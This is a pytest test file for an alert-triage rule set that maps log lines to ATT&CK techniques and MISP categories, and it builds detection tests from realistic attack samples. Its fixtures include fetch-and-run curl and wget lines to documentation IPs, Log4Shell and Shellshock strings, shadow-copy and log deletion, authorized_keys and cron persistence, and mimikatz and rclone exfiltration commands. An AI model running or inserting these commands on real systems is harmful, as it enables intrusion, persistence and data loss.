"""Triage rules: every default rule on a realistic alert, precedence, benign lines, rules files."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from misp_bridge.errors import BridgeError, RulesError
from misp_bridge.pandora.triage import CATEGORIES, Rule, RuleSet, TriageResult, classify, load_rules
from misp_bridge.pandora.triage.attack import galaxy_tag, load_techniques

RULES = load_rules()
NA, PD, EA = "Network activity", "Payload delivery", "External analysis"

# rule id -> (alert name, alert data, techniques, category, threat level, IOC side)
CASES: dict[str, tuple[str, str, tuple[str, ...], str, int, str]] = {
    "success-after-failures": (
        "SSH login after failures",
        "Nov 12 03:14:07 web01 sshd[2211]: Accepted password for admin from 198.51.100.23 port 51514 "
        "ssh2 after 37 failures",
        ("T1078", "T1110"),
        NA,
        1,
        "source",
    ),
    "rdp-brute-force": (
        "Windows security: logon failures",
        "EventID=4625 Computer=DC01 An account failed to log on.\n Account Name: administrator\n"
        " Logon Type: 10\n Source Network Address: 203.0.113.77\n Source Port: 0",
        ("T1110.001", "T1021.001"),
        NA,
        2,
        "source",
    ),
    "password-spraying": (
        "Azure AD sign-in anomaly",
        "Password spray detected: 42 accounts targeted from 192.0.2.150 within 10 minutes",
        ("T1110.003",),
        NA,
        2,
        "source",
    ),
    "credential-stuffing": (
        "WAF login anomaly",
        "Possible credential stuffing: 1500 login attempts with leaked pairs from 203.0.113.41 on /login",
        ("T1110.004",),
        NA,
        2,
        "source",
    ),
    "sudo-abuse": (
        "sudo failure",
        "Nov 12 10:01:02 app02 sudo:   mallory : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/mallory ; "
        "USER=root ; COMMAND=/bin/bash",
        ("T1548.003", "T1068"),
        NA,
        2,
        "none",
    ),
    "brute-force": (
        "SSH brute force",
        "Nov 12 03:10:55 web01 sshd[2201]: Failed password for invalid user oracle from 198.51.100.23 "
        "port 50122 ssh2",
        ("T1110", "T1110.001"),
        NA,
        2,
        "source",
    ),
    "ransomware": (
        "EDR alert",
        "Process vssadmin.exe executed 'vssadmin delete shadows /all /quiet' "
        "by user CORP\\svc_backup on FS01",
        ("T1486", "T1490"),
        PD,
        1,
        "source",
    ),
    "malware": (
        "ClamAV detection",
        "/var/www/uploads/invoice.pdf.exe: Win.Trojan.Agent-1234 FOUND",
        ("T1204.002",),
        PD,
        1,
        "source",
    ),
    "web-shell": (
        "Apache: suspicious upload",
        "[Tue Nov 12 11:02:03.123456 2024] [php:notice] [pid 3321] [client 203.0.113.9:40122] PHP code "
        'eval(base64_decode("ZWNobyAx")) in /var/www/html/uploads/img.php',
        ("T1505.003",),
        PD,
        1,
        "source",
    ),
    "command-injection": (
        "Log4Shell attempt",
        '203.0.113.66 - - [12/Nov/2024:11:00:01 +0000] "GET / HTTP/1.1" 200 612 "-" '
        '"${jndi:ldap://203.0.113.66:1389/a}"',
        ("T1190", "T1059.004"),
        NA,
        2,
        "source",
    ),
    "vulnerability-scanner": (
        "Apache: scanner",
        '192.0.2.44 - - [12/Nov/2024:09:00:00 +0000] "GET /admin/ HTTP/1.1" 404 196 "-" '
        '"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"',
        ("T1595", "T1595.002"),
        EA,
        3,
        "source",
    ),
    "sql-injection": (
        "Apache: SQL injection",
        '198.51.100.80 - - [12/Nov/2024:09:12:44 +0000] "GET /item.php?id=1%20UNION%20SELECT%20'
        'username,password%20FROM%20users HTTP/1.1" 200 1043 "-" "Mozilla/5.0"',
        ("T1190",),
        NA,
        2,
        "source",
    ),
    "xss": (
        "WAF block",
        '198.51.100.81 - - [12/Nov/2024:09:13:00 +0000] "GET /search?q=%22%3E%3Cimg%20src=x%20'
        'onerror=alert(1)%3E HTTP/1.1" 200 512 "-" "Mozilla/5.0"',
        ("T1189", "T1059.007"),
        NA,
        3,
        "source",
    ),
    "port-scan": (
        "Suricata",
        "11/12/2024-10:00:00.000000  [**] [1:2001219:20] ET SCAN Potential SSH Scan [**] "
        "[Classification: Attempted Information Leak] [Priority: 2] {TCP} 203.0.113.200:44321 -> 10.0.0.5:22",
        ("T1046",),
        NA,
        3,
        "source",
    ),
    "dns-tunnelling": (
        "Zeek notice",
        "DNS::Tunnel possible dns tunneling: 950 TXT queries for *.t.example.net "
        "from 10.0.0.23 to 203.0.113.53",
        ("T1071.004", "T1572"),
        NA,
        1,
        "destination",
    ),
    "c2-beaconing": (
        "EDR network alert",
        "Periodic beaconing every 60s from host WS-114 (10.0.3.14) to 203.0.113.10:443, "
        "Cobalt Strike malleable profile suspected",
        ("T1071", "T1071.001"),
        NA,
        1,
        "destination",
    ),
    "exfiltration": (
        "DLP alert",
        "rclone copy /srv/finance remote:backup executed by www-data; 4.2 GB sent to 203.0.113.90",
        ("T1041", "T1048", "T1567"),
        NA,
        1,
        "destination",
    ),
    "windows-log-cleared": (
        "Windows security",
        "EventID: 1102 Source: Microsoft-Windows-Eventlog The audit log was cleared. "
        "Subject: Account Name: jdoe Domain: CORP",
        ("T1070.001", "T1685.005"),
        NA,
        1,
        "none",
    ),
    "linux-log-clearing": (
        "bash history",
        "root@web01:~# history -c && unset HISTFILE",
        ("T1070.002", "T1685.006", "T1070.003"),
        NA,
        1,
        "none",
    ),
    "account-creation": (
        "useradd",
        "Nov 12 12:00:00 web01 useradd[4455]: new user: name=backdoor, UID=0, GID=0, home=/root, "
        "shell=/bin/bash, from=/dev/pts/0",
        ("T1136", "T1136.001"),
        NA,
        2,
        "none",
    ),
    "credential-dumping": (
        "EDR alert",
        "Credential theft: mimikatz.exe sekurlsa::logonpasswords run by CORP\\admin on WS-22",
        ("T1003", "T1003.001", "T1003.008"),
        NA,
        1,
        "none",
    ),
    "lateral-movement": (
        "Windows service install",
        "Service PSEXESVC installed on FS01; share \\\\FS01\\ADMIN$ accessed from 10.0.5.17",
        ("T1021", "T1021.002", "T1021.004"),
        NA,
        1,
        "source",
    ),
    "authorized-keys": (
        "bash history",
        "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx attacker@kali' >> /root/.ssh/authorized_keys",
        ("T1098.004",),
        NA,
        1,
        "none",
    ),
    "cron-persistence": (
        "syslog",
        "Nov 12 12:30:00 web01 crontab[5566]: (root) REPLACE (root)",
        ("T1053.003",),
        NA,
        2,
        "none",
    ),
    "phishing": (
        "Mail gateway",
        "Spearphishing email from billing@invoices-example.net to cfo@corp.example blocked: "
        "malicious attachment invoice.docm",
        ("T1566", "T1566.001", "T1566.002"),
        PD,
        2,
        "source",
    ),
    "endpoint-dos": (
        "Apache",
        "[Tue Nov 12 13:00:00 2024] [error] server reached MaxRequestWorkers setting; slowloris pattern "
        "from 198.51.100.99: 800 half-open connections",
        ("T1499", "T1499.002"),
        NA,
        2,
        "source",
    ),
    "network-dos": (
        "Firewall",
        "SYN flood detected: 120000 pps to 10.0.0.80:443 from many sources (top talker 203.0.113.250)",
        ("T1498", "T1498.001"),
        NA,
        2,
        "source",
    ),
    "tool-download": (
        "bash history",
        "wget http://203.0.113.15/x86.elf -O /tmp/.x && chmod +x /tmp/.x",
        ("T1105",),
        PD,
        2,
        "destination",
    ),
}

# Other wordings the same rules must catch (rule id, alert name, alert data).
VARIANTS = [
    (
        "brute-force",
        "PAM",
        "Nov 12 03:11:00 web01 sshd[2202]: pam_unix(sshd:auth): authentication failure; "
        "logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.23  user=root",
    ),
    ("brute-force", "vsftpd", 'Tue Nov 12 03:12:00 2024 [pid 3] [ftp] FAIL LOGIN: Client "203.0.113.3"'),
    (
        "sudo-abuse",
        "sudo PAM",
        "sudo: pam_unix(sudo:auth): authentication failure; logname=bob uid=1000 "
        "euid=0 tty=/dev/pts/0 ruser=bob rhost=  user=bob",
    ),
    (
        "rdp-brute-force",
        "Wazuh",
        '{"win": {"system": {"eventID": "4625"}, "eventdata": {"logonType": "10", '
        '"ipAddress": "203.0.113.77"}}}',
    ),
    (
        "command-injection",
        "Shellshock",
        '203.0.113.5 - - [12/Nov/2024:10:00:00 +0000] "GET /cgi-bin/status '
        'HTTP/1.1" 200 12 "-" "() { :;}; /bin/bash -c \'cat /etc/hostname\'"',
    ),
    ("command-injection", "bash history", "curl -s http://203.0.113.7/i.sh | sh"),
    ("windows-log-cleared", "EDR", "Process wevtutil.exe cl Security by CORP\\jdoe"),
    (
        "linux-log-clearing",
        "auditd",
        'type=EXECVE msg=audit(1700000000.1:42): argc=3 a0="rm" a1="-rf" '
        'a2="/var/log/auth.log"\nrm -rf /var/log/auth.log',
    ),
    ("account-creation", "Windows JSON", '{"EventID": 4720, "TargetUserName": "svc-backup2"}'),
    ("account-creation", "EDR", "cmd.exe /c net user hacker P@ssw0rd /add"),
    ("cron-persistence", "bash history", "(crontab -l; echo '* * * * * /tmp/.x') | crontab -"),
    (
        "authorized-keys",
        "auditd",
        "type=PATH msg=audit(1700000000.5:77): item=1 "
        'name="/root/.ssh/authorized_keys" inode=1234 dev=fd:00 mode=0100600 nametype=CREATE',
    ),
    (
        "credential-dumping",
        "auditd",
        'type=PATH msg=audit(1700000000.7:90): item=0 name="/etc/shadow" nametype=NORMAL',
    ),
    ("malware", "Defender", "Microsoft Defender Antivirus has detected malware: Trojan:Win32/Emotet.A!ml"),
    ("port-scan", "nmap", "Possible nmap SYN scan from 203.0.113.200 against 10.0.0.0/24"),
    (
        "c2-beaconing",
        "Suricata",
        "ET CNC Feodo Tracker Reported CnC Server group 12 {TCP} 10.0.0.5:49152 -> 203.0.113.10:443",
    ),
    ("c2-beaconing", "Proxy", "Blocked: known C2 server 203.0.113.10 contacted by 10.0.3.14"),
]

BENIGN = [
    pytest.param("Antivirus", "Antivirus updated: signatures version 1.401.123.0", id="antivirus-updated"),
    pytest.param(
        "Defender", "Microsoft Defender Antimalware platform updated to 4.18.24090", id="antimalware-update"
    ),
    pytest.param(
        "ClamAV", "Known viruses: 8693460\nScanned files: 1200\nInfected files: 0", id="clamav-summary"
    ),
    pytest.param(
        "SSH",
        "sshd[901]: Accepted publickey for deploy from 2001:db8:1102::5 port 11020 ssh2",
        id="ip-and-port-with-1102",
    ),
    pytest.param(
        "Package",
        "apt: downloaded nginx_1.24.0 sha256="
        "3fa9c2e0c2d1b2c2aa47200c2bb41102ac4720c2d3f0e1a2b3c4d5e6f7a8b9c2",
        id="sha256-with-c2-1102-4720",
    ),
    pytest.param("DHCP", "DHCPACK on 10.0.0.8 to 00:1a:c2:7b:00:47 (ws-08) via eth0", id="mac-with-c2"),
    pytest.param("systemd", "systemd[1]: Started Session 4720 of user bob.", id="session-4720"),
    pytest.param(
        "CRON", "CRON[2211]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)", id="cron-hourly-run"
    ),
    pytest.param(
        "CRON",
        "CRON[2212]: (root) CMD (/usr/local/bin/backup.sh > /var/log/backup.log 2>&1)",
        id="cron-redirect-to-var-log",
    ),
    pytest.param(
        "Windows",
        "EventID=4624 An account was successfully logged on. Logon Type: 3 "
        "Process Name: C:\\Windows\\System32\\lsass.exe",
        id="logon-names-lsass",
    ),
    pytest.param(
        "sshd",
        "sshd[77]: Could not open authorized keys '/home/bob/.ssh/authorized_keys': "
        "No such file or directory",
        id="sshd-missing-authorized-keys",
    ),
    pytest.param("gcc", "make: gcc -std=c99 -O2 -o app main.c", id="compiler-c99"),
    pytest.param("Suricata", "Set scan interval to 60s on eth1", id="set-scan"),
    pytest.param(
        "Apache",
        '10.0.0.5 - - [12/Nov/2024:09:00:00 +0000] "GET /index.html HTTP/1.1" 200 1024 '
        '"https://corp.example/" "Mozilla/5.0 (X11; Linux x86_64)"',
        id="apache-normal-request",
    ),
    pytest.param("Agent", "", id="empty"),
]


def _expected_tags(techniques: tuple[str, ...]) -> tuple[str, ...]:
    return tuple(galaxy_tag(t) for t in techniques)


def test_every_default_rule_has_a_case() -> None:
    assert {rule.id for rule in RULES.rules} == set(CASES)
    assert len(RULES.rules) == 28


@pytest.mark.parametrize("rule_id", list(CASES))
def test_default_rule_on_realistic_alert(rule_id: str) -> None:
    name, data, techniques, category, level, side = CASES[rule_id]
    result = classify(name, data, RULES)
    assert result == TriageResult(
        threat_level=level,
        category=category,
        techniques=techniques,
        galaxy_tags=_expected_tags(techniques),
        ioc_side=side,  # type: ignore[arg-type]
        matched=(rule_id,),
        to_ids=next(rule.to_ids for rule in RULES.rules if rule.id == rule_id),
    )


@pytest.mark.parametrize(("rule_id", "name", "data"), VARIANTS, ids=[f"{v[0]}-{v[1]}" for v in VARIANTS])
def test_other_wordings_match_their_rule(rule_id: str, name: str, data: str) -> None:
    assert classify(name, data, RULES).matched == (rule_id,)


def test_galaxy_tags_are_exact_strings() -> None:
    result = classify(*CASES["brute-force"][:2], RULES)
    assert result.galaxy_tags == (
        'misp-galaxy:mitre-attack-pattern="Brute Force - T1110"',
        'misp-galaxy:mitre-attack-pattern="Password Guessing - T1110.001"',
    )
    windows = classify(*CASES["windows-log-cleared"][:2], RULES)
    assert windows.galaxy_tags == (
        'misp-galaxy:mitre-attack-pattern="Clear Windows Event Logs - T1070.001"',
        'misp-galaxy:mitre-attack-pattern="Clear Windows Event Logs - T1685.005"',
    )


@pytest.mark.parametrize(("name", "data"), BENIGN)
def test_benign_lines_do_not_match(name: str, data: str) -> None:
    assert classify(name, data, RULES) == TriageResult(
        threat_level=3,
        category="Network activity",
        techniques=(),
        galaxy_tags=(),
        ioc_side="source",
        matched=(),
    )


def test_highest_level_wins_and_category_comes_from_first_match() -> None:
    # Nikto (External analysis, level 3) sits above SQL injection (Network activity, level 2).
    data = (
        '192.0.2.44 - - [12/Nov/2024:09:00:00 +0000] "GET /a.php?id=1+UNION+SELECT+1,2 HTTP/1.1" 200 1 "-" '
        '"Mozilla/5.00 (Nikto/2.1.6)"'
    )
    result = classify("Apache", data, RULES)
    assert result.matched == ("vulnerability-scanner", "sql-injection")
    assert result.threat_level == 2
    assert result.category == EA
    assert result.techniques == ("T1595", "T1595.002", "T1190")


def test_techniques_merge_without_duplicates_in_rule_order() -> None:
    data = "\n".join(
        [
            "sshd[1]: Failed password for root from 198.51.100.23 port 50122 ssh2",
            "sshd[1]: Failed password for root from 198.51.100.23 port 50123 ssh2",
            "sshd[1]: Accepted password for root from 198.51.100.23 port 50124 ssh2 after 2 failures",
        ]
    )
    result = classify("SSH", data, RULES)
    assert result.matched == ("success-after-failures", "brute-force")
    assert result.techniques == ("T1078", "T1110", "T1110.001")
    assert result.threat_level == 1


def test_ioc_side_and_category_follow_first_rule() -> None:
    # C2 (Network activity, destination) sits above ransomware and malware (Payload delivery, source):
    # a beacon alert's IOC is the C2 server the infected host calls, not the infected host.
    data = "Cobalt Strike beacon observed; ransom note README.txt dropped on FS01"
    result = classify("EDR", data, RULES)
    assert result.matched == ("c2-beaconing", "ransomware")
    assert (result.category, result.ioc_side, result.threat_level) == (NA, "destination", 1)


def test_suricata_malware_beacon_reports_the_c2_side() -> None:
    """An ET MALWARE beacon signature also says 'malware'; the C2 rule must decide the side."""
    eve = {
        "event_type": "alert",
        "src_ip": "10.1.2.3",
        "dest_ip": "203.0.113.50",
        "alert": {"signature": "ET MALWARE Cobalt Strike Beacon Observed", "category": "A Network Trojan"},
    }
    result = classify("Suricata alert", json.dumps(eve), RULES)
    assert result.matched[0] == "c2-beaconing"
    assert "malware" in result.matched
    assert (result.category, result.ioc_side) == (NA, "destination")


def test_specific_rules_sit_above_general_ones() -> None:
    order = [rule.id for rule in RULES.rules]
    for specific, general in [
        ("success-after-failures", "brute-force"),
        ("ransomware", "malware"),
        ("web-shell", "command-injection"),
        ("sudo-abuse", "brute-force"),
        ("c2-beaconing", "malware"),
        ("c2-beaconing", "ransomware"),
    ]:
        assert order.index(specific) < order.index(general)


EVE = {
    "timestamp": "2024-11-12T10:00:00.000000+0000",
    "event_type": "alert",
    "src_ip": "203.0.113.200",
    "dest_ip": "10.0.0.5",
    "alert": {
        "signature": "GPL WEB_SERVER robots.txt access",
        "category": "Attempted Information Leak",
        "metadata": {"mitre_technique_id": ["T1595.001", "t1190", "T9999"], "mitre_tactic_id": ["TA0043"]},
    },
}


def test_eve_techniques_are_added_when_known() -> None:
    result = classify("Suricata alert", json.dumps(EVE), RULES)
    assert result.matched == ()
    assert result.techniques == ("T1595.001", "T1190")
    assert result.galaxy_tags == (
        'misp-galaxy:mitre-attack-pattern="Scanning IP Blocks - T1595.001"',
        'misp-galaxy:mitre-attack-pattern="Exploit Public-Facing Application - T1190"',
    )
    assert (result.threat_level, result.category) == (3, NA)


def test_eve_techniques_follow_rule_techniques_and_parsed_json_is_used() -> None:
    eve = json.loads(json.dumps(EVE))
    eve["alert"]["signature"] = "ET SCAN Nmap Scripting Engine User-Agent Detected"
    eve["alert"]["metadata"]["mitre_technique_id"] = ["T1046", "T1595"]
    # The raw data is not JSON here, so the techniques can only come from json_data.
    result = classify("Suricata alert", "see eve record", RULES, json_data=eve)
    assert result.matched == ()
    assert result.techniques == ("T1046", "T1595")
    result = classify("Suricata alert", json.dumps(eve), RULES, json_data=eve)
    assert result.matched == ("port-scan",)
    assert result.techniques == ("T1046", "T1595")


def test_json_field_condition_matches() -> None:
    eve = {
        "alert": {
            "signature": "SURICATA STREAM excessive retransmissions",
            "category": "Detection of a Network Scan",
        }
    }
    assert classify("Suricata", json.dumps(eve), RULES).matched == ("port-scan",)
    eve["alert"]["category"] = "Not Suspicious Traffic"
    assert classify("Suricata", json.dumps(eve), RULES).matched == ()


def test_packaged_rules_use_known_techniques_and_valid_values() -> None:
    table = load_techniques()
    for rule in RULES.rules:
        assert rule.techniques, rule.id
        assert all(t in table for t in rule.techniques), rule.id
        assert rule.category in CATEGORIES
        assert rule.threat_level in (1, 2, 3)
        assert all(galaxy_tag(t).endswith(f' - {t}"') for t in rule.techniques)
    assert load_rules() is RULES


def test_large_alerts_stay_fast() -> None:
    size = 128 * 1024
    for unit in ["Nov 12 web01 systemd[1]: Started Session 12 of user bob ", "EventID=4625 ", "cp cp > "]:
        data = (unit * (size // len(unit) + 1))[:size]
        started = time.perf_counter()
        classify("bulk", data, RULES)
        assert time.perf_counter() - started < 1.0, unit


# --- rules files -----------------------------------------------------------------------------------

CUSTOM_RULE = """
[[rule]]
id = "{id}"
keywords = ["pandora-test-marker"]
techniques = ["T1190"]
category = "External analysis"
threat_level = 1
ioc_side = "destination"
"""


def _write(tmp_path: Path, text: str, name: str = "rules.toml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_custom_file_replaces_defaults(tmp_path: Path) -> None:
    path = _write(tmp_path, CUSTOM_RULE.format(id="mine"))
    rules = load_rules(path)
    assert isinstance(rules, RuleSet)
    assert [r.id for r in rules.rules] == ["mine"]
    assert rules.source == str(path)
    assert rules.rules[0].name == "mine"
    assert classify(*CASES["brute-force"][:2], rules).matched == ()
    result = classify("x", "PANDORA-TEST-MARKER seen", rules)
    assert (result.matched, result.category, result.ioc_side, result.threat_level) == (
        ("mine",),
        EA,
        "destination",
        1,
    )


def test_custom_file_extends_defaults_and_goes_first(tmp_path: Path) -> None:
    path = _write(tmp_path, "extends_default = true\n" + CUSTOM_RULE.format(id="mine"))
    rules = load_rules(path)
    assert [r.id for r in rules.rules][:2] == ["mine", "success-after-failures"]
    assert len(rules.rules) == 29
    result = classify("x", "pandora-test-marker " + CASES["brute-force"][1], rules)
    assert result.matched == ("mine", "brute-force")
    assert result.category == EA
    assert result.techniques == ("T1190", "T1110", "T1110.001")


def test_custom_rule_with_a_default_id_replaces_it(tmp_path: Path) -> None:
    path = _write(tmp_path, "extends_default = true\n" + CUSTOM_RULE.format(id="brute-force"))
    rules = load_rules(path)
    assert len(rules.rules) == 28
    assert [r.id for r in rules.rules].count("brute-force") == 1
    assert classify(*CASES["brute-force"][:2], rules).matched == ()


def test_rule_fields_are_typed(tmp_path: Path) -> None:
    text = CUSTOM_RULE.format(id="typed").replace(
        'keywords = ["pandora-test-marker"]',
        'name = "Typed"\npatterns = [\'\\bfoo\\d+\']\njson_fields = { "a.b" = ["X", "y"] }',
    )
    rule = load_rules(_write(tmp_path, text)).rules[0]
    assert isinstance(rule, Rule)
    assert rule.name == "Typed"
    assert rule.patterns[0].found("x FOO12 y") and not rule.patterns[0].found("foo")
    assert dict(rule.json_fields) == {"a.b": ("x", "y")}
    assert rule.keywords == ()
    assert classify(
        "n", "", load_rules(_write(tmp_path, text)), json_data={"a": {"b": ["z", "Y"]}}
    ).matched == ("typed",)


BASE = {
    "id": '"bad"',
    "keywords": '["x"]',
    "techniques": '["T1190"]',
    "category": '"Network activity"',
    "threat_level": "2",
    "ioc_side": '"source"',
}


def _rule_text(**changes: str | None) -> str:
    fields = {**BASE, **changes}
    return "[[rule]]\n" + "".join(f"{k} = {v}\n" for k, v in fields.items() if v is not None)


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        pytest.param(
            _rule_text(techniques='["T9999"]'),
            "rule 'bad' names unknown ATT&CK technique 'T9999'",
            id="unknown-technique",
        ),
        pytest.param(
            _rule_text(category='"Other"'),
            "rule 'bad' has category 'Other'; it must be one of Network activity, Payload delivery, "
            "External analysis",
            id="bad-category",
        ),
        pytest.param(
            _rule_text(threat_level="4"),
            "rule 'bad' has threat_level 4; it must be 1 (High), 2 (Medium) or 3 (Low)",
            id="bad-level",
        ),
        pytest.param(
            _rule_text(threat_level="true"),
            "rule 'bad' has threat_level True; it must be 1 (High), 2 (Medium) or 3 (Low)",
            id="boolean-level",
        ),
        pytest.param(
            _rule_text(patterns="['(unclosed']"),
            "rule 'bad' has pattern '(unclosed' in patterns that RE2 cannot compile (missing )); "
            "RE2 has no lookarounds or backreferences: use not_preceded_by / "
            "not_followed_by (see docs/triage.md)",
            id="bad-regex",
        ),
        pytest.param(
            _rule_text(patterns="['(?<!not )infected']"),
            "rule 'bad' has pattern '(?<!not )infected' in patterns that RE2 cannot compile (invalid perl "
            "operator: (?<!); RE2 has no lookarounds or backreferences: use not_preceded_by / "
            "not_followed_by (see docs/triage.md)",
            id="lookbehind-refused-at-load",
        ),
        pytest.param(
            _rule_text(patterns="[{ regex = 'x', unless = 'y' }]"),
            "rule 'bad' has patterns with an entry that is neither a string nor a table of regex "
            "(and not_preceded_by, not_followed_by)",
            id="bad-pattern-table",
        ),
        pytest.param(
            _rule_text(to_ids='["text"]'),
            "rule 'bad' has to_ids 'text'; it must be among url, domain, email, md5, sha1, sha256, ip-src, "
            "ip-dst",
            id="bad-to-ids",
        ),
        pytest.param(
            _rule_text(ioc_side='"both"'),
            "rule 'bad' has ioc_side 'both'; it must be one of source, destination, none",
            id="bad-side",
        ),
        pytest.param(_rule_text(keyword='["x"]'), "rule 'bad' has unknown key(s) keyword", id="unknown-key"),
        pytest.param(
            _rule_text(keywords=None),
            "rule 'bad' has no keywords, patterns or json_fields to match on",
            id="no-condition",
        ),
        pytest.param(_rule_text(category=None), "rule 'bad' has no category", id="missing-category"),
        pytest.param(
            _rule_text(keywords='"x"'),
            "rule 'bad' has keywords that is not a list of non-empty strings",
            id="keywords-not-list",
        ),
        pytest.param(
            _rule_text(json_fields='{ "a..b" = ["x"] }'),
            "rule 'bad' has a bad JSON path 'a..b' in json_fields",
            id="bad-json-path",
        ),
        pytest.param(_rule_text(id=None), "has rule number 1 without an id", id="missing-id"),
        pytest.param(_rule_text() + _rule_text(), "rule 'bad' appears twice", id="duplicate-id"),
        pytest.param(
            "extends_default = 1\n" + _rule_text(),
            "has extends_default that is not true or false",
            id="extends-not-bool",
        ),
        pytest.param("rules = []\n", "has unknown top-level key(s) rules", id="unknown-top-level"),
        pytest.param("extends_default = true\n", "has no [[rule]] tables", id="no-rules"),
    ],
)
def test_broken_rules_file_names_file_rule_and_problem(tmp_path: Path, text: str, problem: str) -> None:
    path = _write(tmp_path, text, "custom.toml")
    with pytest.raises(RulesError) as caught:
        load_rules(path)
    separator = ": " if problem.startswith("rule ") else " "
    assert str(caught.value) == f"{path}{separator}{problem}."
    assert isinstance(caught.value, BridgeError)
    assert caught.value.source == str(path)


def test_bad_toml_is_one_sentence(tmp_path: Path) -> None:
    path = _write(tmp_path, "[[rule]\nid = 'x'\n", "custom.toml")
    with pytest.raises(RulesError) as caught:
        load_rules(path)
    message = str(caught.value)
    assert message.startswith(f"{path} is not valid TOML (")
    assert message.endswith(").")
    assert "\n" not in message


def test_missing_rules_file(tmp_path: Path) -> None:
    path = tmp_path / "absent.toml"
    with pytest.raises(RulesError) as caught:
        load_rules(path)
    assert str(caught.value) == f"{path} cannot be read (No such file or directory)."
